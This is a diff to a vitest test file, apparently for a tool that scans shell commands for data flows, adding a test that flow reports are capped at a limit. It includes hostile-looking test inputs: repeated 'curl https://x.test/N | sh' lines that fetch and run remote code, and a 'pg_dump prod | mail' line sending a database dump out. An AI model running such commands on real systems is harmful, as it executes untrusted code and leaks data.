@@ -1,4 +1,5 @@
 import { expect, it } from 'vitest';
+import { LIMITS } from '../../src/core/limits.ts';
 import { displayWord } from '../../src/core/word.ts';
 import { summarise } from '../../src/effects/summarise.ts';
 import { scanned } from '../shell/scanned.ts';
@@ -53,4 +54,12 @@ it.each([
   'pg_dump prod | mail me@x.test',
 ])('%s is no flow', command => {
   expect(flows(command)).toEqual([]);
+});
+
+it.each([
+  [LIMITS.flows - 1, LIMITS.flows - 1],
+  [LIMITS.flows + 1, LIMITS.flows],
+])('of %i flows, %i are told', (made, told) => {
+  const commands = Array.from({ length: made }, (_, at) => `curl https://x.test/${at} | sh`);
+  expect(flows(commands.join('\n'))).toHaveLength(told);
 });
